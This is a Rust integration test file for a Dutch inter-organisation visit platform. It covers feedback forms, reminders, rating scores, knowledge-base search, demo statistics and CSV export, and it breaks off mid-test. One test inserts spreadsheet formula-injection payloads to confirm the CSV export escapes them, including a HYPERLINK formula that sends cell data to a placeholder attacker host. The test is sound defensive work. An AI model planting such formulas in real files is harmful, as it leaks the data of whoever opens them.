//! Lessons learned: the forms after a visit, from the emailed link and the
//! API, and the one reminder.

use chrono::Duration;
use meeloop::db::outbox::Claimed;
use meeloop::domain::visit::VisitState;
use meeloop::service::visits::VisitView;
use serde_json::json;

use crate::backend_tests;
use crate::helpers::{Backend, TestApp};
use crate::schedule::{ask, dutch, keyed, queued, scheduler, visit_row};
use crate::visits::{coordinator, demo_app, working_days_ahead};

backend_tests!(
    a_held_visit_sends_both_forms_and_each_side_answers_once,
    the_form_keeps_what_was_typed_and_names_every_problem,
    the_forms_reminder_goes_once_and_only_to_the_side_that_did_not_answer,
    a_visitors_rating_moves_the_hosts_proven_quality,
    the_knowledge_base_shows_published_lessons_only_and_finds_them_by_word,
    a_common_word_pages_newest_first_as_a_rare_one_does,
    the_demo_starts_with_held_visits_and_published_lessons,
    three_months_on_the_requester_is_asked_what_came_of_it,
    csv_exports_cannot_carry_formulas,
);

fn link_in(message: &Claimed) -> String {
    message
        .body_text
        .split_whitespace()
        .find(|w| w.contains("/lessons-forms/"))
        .expect("a form link")
        .to_string()
}

/// Anne's visit to Zwolle, accepted by Zwolle's coordinator (`host`) and
/// held: the scheduler completes it the day after.
async fn held_visit(app: &TestApp, host: &str) -> VisitView {
    let (visit, day) = crate::schedule::accepted_next_working_day(app, host).await;
    let report = scheduler(app)
        .run_at(dutch(day + Duration::days(1), 6))
        .await
        .unwrap();
    assert_eq!(report.completed, 1);
    visit
}

fn form(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

fn complete_form() -> Vec<(String, String)> {
    form(&[
        ("situation", "Wij draaiden alles in een eigen serverruimte."),
        (
            "strengths",
            "Een exitplan per applicatie, vooraf met de leverancier besproken.",
        ),
        (
            "mistakes",
            "Licenties niet vooraf geteld; dat kostte ons twee maanden.",
        ),
        ("recommendations", ""),
        ("hoursSaved", "120"),
        ("rating", "4"),
        ("recommend", "yes"),
        ("publish", "pseudonymous"),
    ])
}

async fn a_held_visit_sends_both_forms_and_each_side_answers_once(backend: Backend) {
    let app = demo_app(backend).await;
    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
    let visit = held_visit(&app, &host).await;
    assert_eq!(visit_row(&app, visit.id).state, VisitState::Completed);

    let mail = queued(&app);
    let to_requester = keyed(&mail, &format!("lessons:{}:requester", visit.id)).unwrap();
    let to_host = keyed(&mail, &format!("lessons:{}:host", visit.id)).unwrap();
    assert_eq!(to_requester.recipient, "anne@sudwestfryslan.example");
    assert_eq!(to_host.recipient, "meeloop@zwolle.example");
    assert!(to_requester
        .body_text
        .contains("Wat neemt u mee naar huis?"));
    assert!(to_host.body_text.contains("Wat heeft het ú opgeleverd?"));
    let (requester_link, host_link) = (link_in(to_requester), link_in(to_host));

    // Scanners fetch the link: nothing changes.
    for _ in 0..2 {
        let page = app.client.get(&requester_link).send().await.unwrap();
        assert_eq!(page.status(), 200);
        assert_eq!(page.headers()["cache-control"], "no-store");
        let html = page.text().await.unwrap();
        assert!(html.contains("name=\"strengths\""));
        assert!(
            html.contains("name=\"recommend\""),
            "the visitor is asked to recommend"
        );
        assert!(
            html.contains("value=\"no\" checked"),
            "publishing is off by default"
        );
    }
    assert_eq!(
        app.client
            .head(&requester_link)
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
    let host_page = app.text(&host_link).await;
    assert!(
        !host_page.contains("name=\"recommend\""),
        "the host does not recommend itself"
    );
    let stored = |app: &TestApp| {
        meeloop::db::lessons::for_visit(&mut app.db.pool.get().unwrap(), visit.id).unwrap()
    };
    assert!(stored(&app).is_empty());

    // The visitor answers through the link, once.
    let sent = app.post_form(&requester_link, &complete_form()).await;
    assert_eq!(sent.status(), 303);
    let thanks = app.text(&requester_link).await;
    assert!(
        thanks.contains("Ze staan in de kennisbank, zonder naam."),
        "{thanks}"
    );
    let again = app.post_form(&requester_link, &complete_form()).await;
    assert_eq!(again.status(), 409);
    let lessons = stored(&app);
    assert_eq!(lessons.len(), 1);
    assert_eq!(
        (
            lessons[0].side.as_str(),
            lessons[0].rating,
            lessons[0].hours_saved
        ),
        ("requester", 4, 120)
    );
    assert_eq!(
        lessons[0].publish,
        meeloop::domain::lesson::Publish::Pseudonymous
    );
    assert_eq!(lessons[0].recommend, Some(true));
    assert_eq!(
        lessons[0].author_id, None,
        "sent from the link, not an account"
    );

    // The host answers over the API instead; its link then closes.
    let path = format!("/api/v1/visits/{}/lessons", visit.id);
    let body = json!({
        "strengths": "Goede vragen van de bezoekers over ons exitplan.",
        "mistakes": "Wij hadden de planning vooraf moeten delen.",
        "hoursSaved": 8,
        "rating": 5,
        "recommend": true,
    });
    let outsider = app
        .coordinator_token("kees@amsterdam.example", "GM0363")
        .await;
    let admin = app.admin_token("beheer@meeloop.example").await;
    for (token, status) in [(&outsider, 404), (&admin, 403)] {
        let (got, problem) = app
            .send(
                reqwest::Method::POST,
                &path,
                Some(token),
                Some(body.clone()),
            )
            .await;
        assert_eq!(got, status, "{problem}");
    }
    let (status, lesson) = app
        .send(
            reqwest::Method::POST,
            &path,
            Some(&host),
            Some(body.clone()),
        )
        .await;
    assert_eq!(status, 201, "{lesson}");
    assert_eq!(lesson["side"], "host");
    assert_eq!(
        lesson["recommend"],
        serde_json::Value::Null,
        "not asked of the host"
    );
    assert_eq!(lesson["publish"], "no");
    let (status, problem) = app
        .send(reqwest::Method::POST, &path, Some(&host), Some(body))
        .await;
    assert_eq!(
        (status, problem["code"].as_str()),
        (409, Some("lessons_sent"))
    );
    assert!(problem["detail"]
        .as_str()
        .unwrap()
        .contains("heeft de lessen al ingevuld"));
    let closed = app.text(&host_link).await;
    assert!(closed.contains("al opgeslagen"), "{closed}");
    assert_eq!(stored(&app).len(), 2);

    // Both organisations (and admins) read the visit's lessons, published
    // or not; others learn nothing.
    for (token, status) in [(&host, 200), (&admin, 200), (&outsider, 404)] {
        let (got, body) = app
            .send(reqwest::Method::GET, &path, Some(token), None)
            .await;
        assert_eq!(got, status, "{body}");
        if status == 200 {
            let sides: Vec<&str> = body["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|l| l["side"].as_str().unwrap())
                .collect();
            assert_eq!(sides, ["requester", "host"]);
            assert_eq!(body["items"][1]["publish"], "no");
        }
    }
}

async fn the_form_keeps_what_was_typed_and_names_every_problem(backend: Backend) {
    let app = demo_app(backend).await;
    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
    let visit = held_visit(&app, &host).await;
    let link = link_in(keyed(&queued(&app), &format!("lessons:{}:requester", visit.id)).unwrap());

    // A blind submit is refused and saves nothing.
    let blind = app.client.post(&link).send().await.unwrap();
    assert_eq!(blind.status(), 400);
    let html = blind.text().await.unwrap();
    assert!(html.contains("role=\"alert\""));

    // Every problem at its field, with what was typed kept.
    let mut typed = complete_form();
    for (key, value) in typed.iter_mut() {
        match key.as_str() {
            "mistakes" => *value = "kort".into(),
            "hoursSaved" => *value = "veel".into(),
            "rating" => *value = String::new(),
            _ => {}
        }
    }
    let page = app.post_form(&link, &typed).await;
    assert_eq!(page.status(), 400);
    let html = page.text().await.unwrap();
    for (field, message) in [
        ("mistakes", "Schrijf hier minstens 10 tekens."),
        ("hoursSaved", "Schat de bespaarde uren"),
        ("rating", "Geef een cijfer van 1 tot 5."),
    ] {
        assert!(html.contains(&format!("id=\"{field}-error\"")), "{field}");
        assert!(
            html.contains(&format!("href=\"#{field}\"")),
            "summary links {field}"
        );
        assert!(html.contains(message), "{message}");
    }
    assert!(html.contains("aria-invalid=\"true\""));
    assert!(
        html.contains("Een exitplan per applicatie"),
        "typed text is kept"
    );
    assert!(html.contains("value=\"veel\""), "the typed hours too");
    assert!(
        html.contains("value=\"pseudonymous\" checked"),
        "and the choice to publish"
    );
    assert!(
        !html.contains("id=\"strengths-error\""),
        "no error where there is none"
    );
    assert!(
        meeloop::db::lessons::for_visit(&mut app.db.pool.get().unwrap(), visit.id)
            .unwrap()
            .is_empty()
    );
    // The link still works.
    let sent = app.post_form(&link, &complete_form()).await;
    assert_eq!(sent.status(), 303);
}

async fn the_forms_reminder_goes_once_and_only_to_the_side_that_did_not_answer(backend: Backend) {
    let app = demo_app(backend).await;
    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
    let anne_token = app
        .coordinator_token("anne2@sudwestfryslan.example", "GM1900")
        .await;
    let visit = held_visit(&app, &host).await;
    let completed = visit_row(&app, visit.id).completed_at.unwrap();
    // Lessons before the visit has been held: nothing to answer yet.
    let early = ask(
        &app,
        &coordinator(&app, "jan@sudwestfryslan.example", "GM1900"),
        "common-ground",
        &working_days_ahead(1),
    )
    .await;
    let (status, problem) = app
        .send(
            reqwest::Method::POST,
            &format!("/api/v1/visits/{}/lessons", early.id),
            Some(&anne_token),
            Some(json!({
                "strengths": "Nog niets te melden, het bezoek moet nog komen.",
                "mistakes": "Nog niets te melden, het bezoek moet nog komen.",
                "hoursSaved": 0, "rating": 3, "recommend": false,
            })),
        )
        .await;
    assert_eq!(status, 409, "{problem}");

    // The visitor answers; the host does not.
    let (status, _) = app
        .send(
            reqwest::Method::POST,
            &format!("/api/v1/visits/{}/lessons", visit.id),
            Some(&anne_token),
            Some(json!({
                "strengths": "Een exitplan per applicatie, vooraf besproken.",
                "mistakes": "Licenties niet vooraf geteld.",
                "hoursSaved": 40, "rating": 4, "recommend": true, "publish": "named",
            })),
        )
        .await;
    assert_eq!(status, 201);
    let jobs = scheduler(&app);
    assert_eq!(
        jobs.run_at(completed + Duration::days(6))
            .await
            .unwrap()
            .lessons_reminded,
        0
    );
    let week = completed + Duration::days(7) + Duration::hours(1);
    let other = scheduler(&app);
    let (a, b) = tokio::join!(jobs.run_at(week), other.run_at(week));
    assert_eq!(a.unwrap().lessons_reminded + b.unwrap().lessons_reminded, 1);
    assert_eq!(
        jobs.run_at(week + Duration::days(1)).await.unwrap().total(),
        0,
        "never more than one reminder"
    );
    let mail = queued(&app);
    let reminders: Vec<_> = mail
        .iter()
        .filter(|m| m.template == "lessons_reminder")
        .collect();
    assert_eq!(reminders.len(), 1);
    assert_eq!(reminders[0].recipient, "meeloop@zwolle.example");
    assert!(reminders[0].body_text.contains("enige herinnering"));
    // Its fresh link opens the host's form.
    let page = app.client.get(link_in(reminders[0])).send().await.unwrap();
    assert_eq!(page.status(), 200);
    assert!(page.text().await.unwrap().contains("name=\"strengths\""));
}

/// Zwolle's entry in Anne's matches on cloud migration.
async fn zwolle_in_matches(app: &TestApp, token: &str) -> serde_json::Value {
    let (status, list) = app
        .send(
            reqwest::Method::GET,
            "/api/v1/matches?topic=cloud-migration&limit=50",
            Some(token),
            None,
        )
        .await;
    assert_eq!(status, 200, "{list}");
    list["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["organisation"]["name"] == "Zwolle")
        .expect("Zwolle is proposed")
        .clone()
}

async fn a_visitors_rating_moves_the_hosts_proven_quality(backend: Backend) {
    let app = demo_app(backend).await;
    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
    let anne_token = app
        .coordinator_token("anne2@sudwestfryslan.example", "GM1900")
        .await;
    let visit = held_visit(&app, &host).await;
    let before = zwolle_in_matches(&app, &anne_token).await;
    assert_eq!(before["components"]["quality"], 0.5, "the neutral prior");
    assert_eq!(before["publishedLessons"], 0);
    assert!(before["reasons"][2]
        .as_str()
        .unwrap()
        .starts_with("Nog geen beoordelingen"));

    // The host's own lesson (rating 5) does not count: hosts do not rate themselves.
    let path = format!("/api/v1/visits/{}/lessons", visit.id);
    let (status, _) = app
        .send(
            reqwest::Method::POST,
            &path,
            Some(&host),
            Some(json!({
                "strengths": "Goede vragen over ons exitplan.",
                "mistakes": "De planning vooraf delen.",
                "hoursSaved": 2, "rating": 5,
            })),
        )
        .await;
    assert_eq!(status, 201);
    assert_eq!(
        zwolle_in_matches(&app, &anne_token).await["components"]["quality"],
        0.5
    );

    // The visitor's 5, published: (3 × 3 + 5) / 4 = 3.5 → quality 0.625.
    let (status, _) = app
        .send(
            reqwest::Method::POST,
            &path,
            Some(&anne_token),
            Some(json!({
                "strengths": "Een exitplan per applicatie, vooraf besproken.",
                "mistakes": "Licenties niet vooraf geteld.",
                "hoursSaved": 40, "rating": 5, "recommend": true, "publish": "named",
            })),
        )
        .await;
    assert_eq!(status, 201);
    let after = zwolle_in_matches(&app, &anne_token).await;
    assert_eq!(after["components"]["quality"], 0.625);
    assert_eq!(after["publishedLessons"], 1);
    assert!(after["score"].as_f64().unwrap() > before["score"].as_f64().unwrap());
    assert!(after["rank"].as_u64().unwrap() <= before["rank"].as_u64().unwrap());
    assert_eq!(
        after["reasons"][2],
        "Beoordeeld met 5,0/5 door 1 eerdere bezoeker (1 gepubliceerde les)"
    );
}

async fn the_knowledge_base_shows_published_lessons_only_and_finds_them_by_word(backend: Backend) {
    let app = demo_app(backend).await;
    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
    let anne_token = app
        .coordinator_token("anne2@sudwestfryslan.example", "GM1900")
        .await;
    let visit = held_visit(&app, &host).await;
    let path = format!("/api/v1/visits/{}/lessons", visit.id);
    // The visitor publishes without its name; the host keeps its lesson private.
    for (token, body) in [
        (
            &anne_token,
            json!({
                "strengths": "Een exitplan per applicatie, vooraf besproken.",
                "mistakes": "Zonder coördinatie tussen de teams \"Beheer\", \"Inkoop\" liep alles vast.",
                "hoursSaved": 40, "rating": 5, "recommend": true, "publish": "pseudonymous",
            }),
        ),
        (
            &host,
            json!({
                "strengths": "Geheim: onze interne planning was sterk.",
                "mistakes": "Geheim: wij begonnen te laat met testen.",
                "hoursSaved": 2, "rating": 4,
            }),
        ),
    ] {
        let (status, lesson) = app
            .send(reqwest::Method::POST, &path, Some(token), Some(body))
            .await;
        assert_eq!(status, 201, "{lesson}");
    }
    let reader = crate::matrix::partner_token(&app, "lessons:read").await;
    let stranger = crate::matrix::partner_token(&app, "organisations:read").await;

    let (status, page) = kb(&app, "", &reader).await;
    assert_eq!(status, 200, "{page}");
    let items = page["items"].as_array().unwrap();
    assert_eq!(
        items.len(),
        1,
        "the unpublished lesson is not there: {page}"
    );
    let lesson = &items[0];
    assert_eq!(lesson["side"], "requester");
    assert_eq!(lesson["author"]["name"], serde_json::Value::Null);
    assert_eq!(lesson["author"]["kind"], "municipality");
    // Súdwest-Fryslân has 90,421 inhabitants (CBS).
    assert_eq!(
        lesson["author"]["sizeClass"],
        "gemeente, 50.000–100.000 inwoners"
    );
    assert_eq!(lesson["host"]["name"], "Zwolle");
    assert_eq!(
        lesson["visitMonth"],
        visit.proposed_dates[0].format("%Y-%m").to_string()
    );
    assert!(
        !page.to_string().contains("Súdwest"),
        "pseudonymous means no name"
    );
    assert!(!page.to_string().contains("Geheim"));

    // Found by a word from "mistakes to avoid", with and without accents.
    for (q, found) in [
        ("coördinatie", 1),
        ("coordinatie", 1),
        ("COORDINATIE teams", 1),
        ("coord", 1),
        ("ordinatie", 0),
        ("geheim", 0),
        ("datacenter", 0),
    ] {
        let (status, page) = kb(&app, &format!("?q={}", urlencode(q)), &reader).await;
        assert_eq!(status, 200);
        assert_eq!(page["items"].as_array().unwrap().len(), found, "q={q}");
    }
    for (query, found) in [
        ("?topic=cloud-migration", 1),
        ("?topic=common-ground", 0),
        ("?kind=municipality", 1),
        ("?kind=housing_corporation", 0),
    ] {
        let (status, page) = kb(&app, query, &reader).await;
        assert_eq!(
            (status, page["items"].as_array().unwrap().len()),
            (200, found),
            "{query}"
        );
    }
    assert_eq!(kb(&app, "?topic=no-such-topic", &reader).await.0, 404);
    assert_eq!(kb(&app, "?kind=castle", &reader).await.0, 400);
    assert_eq!(
        kb(&app, "", &stranger).await.0,
        403,
        "lessons:read is needed"
    );
    assert_eq!(kb(&app, "", &host).await.0, 200, "coordinators read it too");
    let anonymous = app.get("/api/v1/lessons").await;
    assert_eq!(anonymous.status(), 401);

    // CSV for spreadsheets, by parameter or by Accept.
    for request in [
        app.client
            .get(format!("{}/api/v1/lessons?format=csv", app.address))
            .bearer_auth(&reader),
        app.client
            .get(format!("{}/api/v1/lessons", app.address))
            .header("Accept", "text/csv")
            .bearer_auth(&reader),
    ] {
        let response = request.send().await.unwrap();
        assert_eq!(response.status(), 200);
        assert!(response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv"));
        let body = response.text().await.unwrap();
        let mut rows = csv::Reader::from_reader(body.as_bytes());
        let header: Vec<String> = rows.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(&header[..4], ["id", "topic", "visit_month", "side"]);
        let records: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), 1);
        let mistakes = header.iter().position(|h| h == "mistakes").unwrap();
        assert_eq!(
            &records[0][mistakes],
            "Zonder coördinatie tussen de teams \"Beheer\", \"Inkoop\" liep alles vast."
        );
        assert_eq!(
            &records[0][header.iter().position(|h| h == "author_name").unwrap()],
            ""
        );
    }
}

/// A coordinator plants formulas in a lesson and its organisation's name;
/// whoever opens the knowledge base in a spreadsheet sees text.
async fn csv_exports_cannot_carry_formulas(backend: Backend) {
    let app = demo_app(backend).await;
    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
    let anne = app
        .coordinator_token("anne2@sudwestfryslan.example", "GM1900")
        .await;
    let visit = held_visit(&app, &host).await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")"#;
    let own = app.organisation_id("GM1900").await;
    let (status, body) = app
        .send(
            reqwest::Method::PATCH,
            &format!("/api/v1/organisations/{own}"),
            Some(&anne),
            Some(json!({"name": "=1+1 Súdwest-Fryslân"})),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let (status, lesson) = app
        .send(
            reqwest::Method::POST,
            &format!("/api/v1/visits/{}/lessons", visit.id),
            Some(&anne),
            Some(json!({
                "situation": "-2+3 applicaties",
                "strengths": hyperlink,
                "mistakes": "+31 is geen nummer",
                "recommendations": "@SUM(A1:A9)",
                "hoursSaved": 40, "rating": 5, "recommend": true, "publish": "named",
            })),
        )
        .await;
    assert_eq!(status, 201, "{lesson}");
    let reader = crate::matrix::partner_token(&app, "lessons:read").await;
    let response = app.get_as("/api/v1/lessons?format=csv", &reader).await;
    let body = response.text().await.unwrap();
    let mut rows = csv::Reader::from_reader(body.as_bytes());
    let header: Vec<String> = rows.headers().unwrap().iter().map(String::from).collect();
    let row: csv::StringRecord = rows
        .records()
        .map(Result::unwrap)
        .find(|r| r.iter().any(|cell| cell.contains("HYPERLINK")))
        .expect("the lesson is in the file");
    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(cell("strengths"), format!("'{hyperlink}"));
    assert_eq!(cell("situation"), "'-2+3 applicaties");
    assert_eq!(cell("mistakes"), "'+31 is geen nummer");
    assert_eq!(cell("recommendations"), "'@SUM(A1:A9)");
    assert_eq!(cell("author_name"), "'=1+1 Súdwest-Fryslân");
    assert_eq!(cell("hours_saved"), "40", "numbers stay numbers");
    // No cell of the file starts a formula.
    for record in csv::Reader::from_reader(body.as_bytes()).records() {
        for c in record.unwrap().iter() {
            assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "{c}");
        }
    }
    // The JSON has the texts as typed: escaping is the output format's job.
    let (_, page) = app
        .send(reqwest::Method::GET, "/api/v1/lessons", Some(&reader), None)
        .await;
    assert!(page.to_string().contains("=HYPERLINK"), "{page}");
}

fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => (b as char).to_string(),
            b' ' => "+".into(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

async fn the_demo_starts_with_held_visits_and_published_lessons(backend: Backend) {
    let app = demo_app(backend).await;
    // What `serve --demo` adds after the directory; a second time, nothing.
    let mut conn = app.db.pool.get().unwrap();
    assert_eq!(meeloop::service::demo::load_history(&mut conn).unwrap(), 4);
    assert_eq!(meeloop::service::demo::load_history(&mut conn).unwrap(), 0);
    drop(conn);
    let reader = crate::matrix::partner_token(&app, "lessons:read").await;
    let (status, page) = app
        .send(reqwest::Method::GET, "/api/v1/lessons", Some(&reader), None)
        .await;
    assert_eq!(status, 200);
    let items = page["items"].as_array().unwrap();
    assert_eq!(
        items.len(),
        3,
        "three of the four demo lessons are published: {page}"
    );
    assert!(items.iter().all(|l| l["topic"] == "cloud-migration"));
    // Zwolle's two visitors rated it 5 and 4 in the last weeks.
    let anne = app
        .coordinator_token("anne@sudwestfryslan.example", "GM1900")
        .await;
    let zwolle = zwolle_in_matches(&app, &anne).await;
    assert_eq!(zwolle["publishedLessons"], 2);
    let quality = zwolle["components"]["quality"].as_f64().unwrap();
    // (3 × 3 + 5 + 4) / 5 = 3.6 → 0.65, a little less for the weeks gone by.
    assert!(quality > 0.64 && quality <= 0.65, "{quality}");
    // Best in class on cloud migration, by mastery: the level 5s first —
    // Zwolle (rated 5 and 4), Amsterdam (rated 4, unpublished: the rating
    // counts, the text stays private), Groningen (unrated) — then the
    // level 4s, Ymere (rated 5) first among them.
    let (status, leaders) = app
        .send(
            reqwest::Method::GET,
            "/api/v1/topics/cloud-migration/leaders?limit=5",
            Some(&reader),
            None,
        )
        .await;
    assert_eq!(status, 200, "{leaders}");
    let items = leaders["items"].as_array().unwrap();
    let names: Vec<&str> = items
        .iter()
        .map(|l| l["organisation"]["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        &names[..4],
        ["Zwolle", "Amsterdam", "Groningen", "Ymere"],
        "{leaders}"
    );
    for leader in &items[..3] {
        assert_eq!(leader["standing"], "among_best_in_class", "{leader}");
    }
    assert_eq!(items[3]["standing"], "ahead");
    assert_eq!(items.len(), 5);
    let top = &items[0];
    assert_eq!(
        (
            top["rank"].as_u64(),
            top["ratedVisits"].as_u64(),
            top["averageRating"].as_f64(),
            top["hoursSaved"].as_i64(),
            top["publishedLessons"].as_u64()
        ),
        (Some(1), Some(2), Some(4.5), Some(120), Some(2))
    );
    let score = top["score"].as_f64().unwrap();
    assert!(score > 3.55 && score <= 3.6, "{score}");
    assert_eq!(items[1]["publishedLessons"], 0);
    assert_eq!(items[1]["ratedVisits"], 1);
    assert_eq!(items[2]["ratedVisits"], 0);
    assert_eq!(items[2]["averageRating"], serde_json::Value::Null);
    assert_eq!(items[2]["score"], 3.0, "the prior");
    assert_eq!(items[3]["averageRating"], 5.0);
    let stranger = crate::matrix::partner_token(&app, "stats:read").await;
    for (path, token, status) in [
        ("/api/v1/topics/cloud-migration/leaders", &stranger, 403),
        ("/api/v1/topics/no-such-topic/leaders", &reader, 404),
        (
            "/api/v1/topics/cloud-migration/leaders?limit=0",
            &reader,
            400,
        ),
    ] {
        let (got, problem) = app
            .send(reqwest::Method::GET, path, Some(token), None)
            .await;
        assert_eq!(got, status, "{path}: {problem}");
    }

    // Statistics over the last twelve months.
    let counter = crate::matrix::partner_token(&app, "stats:read").await;
    let (status, stats) = app
        .send(reqwest::Method::GET, "/api/v1/stats", Some(&counter), None)
        .await;
    assert_eq!(status, 200, "{stats}");
    let visits: u64 = stats["visitsPerTopicPerMonth"]
        .as_array()
        .unwrap()
        .iter()
        .inspect(|row| assert_eq!(row["topic"], "cloud-migration"))
        .map(|row| row["visits"].as_u64().unwrap())
        .sum();
    assert_eq!(visits, 4);
    assert_eq!(
        stats["forms"],
        json!({"sent": 8, "answered": 4, "responseRate": 0.5})
    );
    assert_eq!(
        stats["timeSavedPerTopic"],
        json!([{"topic": "cloud-migration", "hours": 264, "lessons": 4}])
    );
    // The demo's hosts accepted each request a week after it was made.
    assert_eq!(
        stats["answersPerTopic"],
        json!([{"topic": "cloud-migration", "requests": 4, "accepted": 4, "declined": 0,
                "expired": 0, "acceptanceRate": 1.0, "medianHoursToAnswer": 168.0}])
    );
    for (query, token, status) in [
        ("", &reader, 403),
        ("?from=2020-01&to=2020-12", &counter, 200),
        ("?from=2027-05&to=2027-04", &counter, 400),
        ("?from=2027-13", &counter, 400),
    ] {
        let (got, body) = app
            .send(
                reqwest::Method::GET,
                &format!("/api/v1/stats{query}"),
                Some(token),
                None,
            )
            .await;
        assert_eq!(got, status, "{query}: {body}");
        if status == 200 {
            assert_eq!(body["visitsPerTopicPerMonth"], json!([]));
            assert_eq!(body["answersPerTopic"], json!([]));
            assert_eq!(body["forms"]["responseRate"], serde_json::Value::Null);
        }
    }

    // The archived coordinators who asked cannot log in.
    let (status, _) = app
        .send(
            reqwest::Method::POST,
            "/api/v1/auth/login",
            None,
            Some(json!({"email": "archief@gm0088.example", "password": "a long enough password"})),
        )
        .await;
    assert_eq!(status, 401);
}

/// A search finds its lessons newest first, page after page, whether the
/// word is in a few lessons or in more than a thousand (on PostgreSQL the two
/// are found in different ways: db::lessons::published).
async fn a_common_word_pages_newest_first_as_a_rare_one_does(backend: Backend) {
    use meeloop::db::lessons::LessonPlace;
    use meeloop::domain::lesson::{Lesson, Publish};
    use meeloop::domain::visit::{VisitId, VisitRole};

    let app = demo_app(backend).await;
    let reader = crate::matrix::partner_token(&app, "lessons:read").await;
    app.coordinator_token("piet@zwolle.example", "GM0193").await;
    // 1,600 lessons on one topic: every one says "gedeeld", every 70th also
    // "zeldzaam", every 3rd is private; more than a thousand published ones
    // match "gedeeld", so PostgreSQL walks the first pages and sorts the
    // last ones.
    let mut conn = app.db.pool.get().unwrap();
    let (requester, host, topic, author): (i64, i64, i64, i64) = {
        let mut id = |sql: &str| -> i64 {
            #[derive(diesel::QueryableByName)]
            struct Id {
                #[diesel(sql_type = diesel::sql_types::BigInt)]
                id: i64,
            }
            meeloop::db::dispatch!(&mut conn, c => diesel::RunQueryDsl::get_result::<Id>(diesel::sql_query(sql), c))
                .unwrap()
                .id
        };
        (
            id("SELECT id FROM organisations WHERE code = 'GM1900'"),
            id("SELECT id FROM organisations WHERE code = 'GM0193'"),
            id("SELECT id FROM topics WHERE slug = 'common-ground'"),
            id("SELECT id FROM users WHERE email = 'piet@zwolle.example'"),
        )
    };
    let mut common = Vec::new();
    let mut rare = Vec::new();
    conn.write(|conn| {
        let now = chrono::Utc::now().naive_utc();
        for i in 0..800 {
            let visit = meeloop::db::visits::insert(
                conn,
                meeloop::db::visits::NewVisit {
                    requester_id: requester,
                    host_id: host,
                    topic_id: topic,
                    requested_by: author,
                    state: VisitState::Requested,
                    goal: "Leren".into(),
                    participants: 1,
                    proposed_dates: String::new(),
                    expires_at: now,
                    created_at: now,
                    updated_at: now,
                },
            )?;
            for (j, side) in [VisitRole::Requester, VisitRole::Host]
                .into_iter()
                .enumerate()
            {
                let n = i * 2 + j;
                let published = n % 3 != 2;
                let words = if n % 70 == 0 {
                    "gedeeld zeldzaam"
                } else {
                    "gedeeld"
                };
                let id = meeloop::db::lessons::insert(
                    conn,
                    LessonPlace {
                        visit_id: VisitId(visit.0),
                        side,
                        organisation_id: if j == 0 { requester } else { host },
                        host_id: host,
                        topic_id: topic,
                        visit_date: now.date(),
                        author_id: Some(author),
                        submitted_at: now,
                    },
                    Lesson {
                        situation: format!("Les {n}: {words}."),
                        strengths: String::new(),
                        mistakes: String::new(),
                        recommendations: String::new(),
                        hours_saved: 1,
                        rating: 4,
                        recommend: None,
                        publish: if published {
                            Publish::Named
                        } else {
                            Publish::No
                        },
                    },
                )?
                .unwrap();
                if published {
                    common.push(id);
                    if n % 70 == 0 {
                        rare.push(id);
                    }
                }
            }
        }
        Ok::<_, diesel::result::Error>(())
    })
    .unwrap();
    drop(conn);
    common.reverse();
    rare.reverse();
    assert!(common.len() > 1000 && rare.len() > 5);

    for (query, expected) in [
        ("q=gedeeld", &common),
        ("q=gedeeld&topic=common-ground&kind=municipality", &common),
        ("q=zeldzaam", &rare),
        ("q=zeldzaam+GEDEELD", &rare),
        ("q=gedeeld&topic=cloud-migration", &Vec::new()),
    ] {
        let mut found: Vec<i64> = Vec::new();
        let mut next: Option<i64> = None;
        loop {
            let page_query = match next {
                Some(before) => format!("?{query}&limit=100&before={before}"),
                None => format!("?{query}&limit=100"),
            };
            let (status, page) = kb(&app, &page_query, &reader).await;
            assert_eq!(status, 200, "{page_query}: {page}");
            let items = page["items"].as_array().unwrap();
            assert!(items.len() <= 100);
            found.extend(items.iter().map(|l| l["id"].as_i64().unwrap()));
            match page["nextBefore"].as_i64() {
                Some(before) => next = Some(before),
                None => break,
            }
        }
        assert_eq!(&found, expected, "{query}: every match, newest first, once");
    }
}

async fn kb(app: &TestApp, query: &str, token: &str) -> (u16, serde_json::Value) {
    app.send(
        reqwest::Method::GET,
        &format!("/api/v1/lessons{query}"),
        Some(token),
        None,
    )
    .await
}

async fn three_months_on_the_requester_is_asked_what_came_of_it(backend: Backend) {
    let app = demo_app(backend).await;
    let host = app.coordinator_token("piet@zwolle.example", "GM0193").await;
    let visit = held_visit(&app, &host).await;
    let day = visit.proposed_dates[0];
    let due = day.checked_add_months(chrono::Months::new(3)).unwrap();
    let (one, two) = (scheduler(&app), scheduler(&app));
    let early = one
        .run_at(dutch(due - Duration::days(1), 12))
        .await
        .unwrap();
    assert_eq!(early.followed_up, 0, "{early:?}");
    let at = dutch(due, 7);
    let (a, b) = tokio::join!(one.run_at(at), two.run_at(at));
    assert_eq!(a.unwrap().followed_up + b.unwrap().followed_up, 1);
    assert_eq!(one.run_at(at + Duration::days(1)).await.unwrap().total(), 0);
    let mail = queued(&app);
    let asks: Vec<_> = mail.iter().filter(|m| m.template == "followup").collect();
    assert_eq!(asks.len(), 1);
    assert_eq!(asks[0].recipient, "anne@sudwestfryslan.example");
    let link = asks[0]
        .body_text
        .split_whitespace()
        .find(|w| w.contains("/follow-ups/"))
        .unwrap()
        .to_string();

    for _ in 0..2 {
        let page = app.client.get(&link).send().await.unwrap();
        assert_eq!(page.status(), 200);
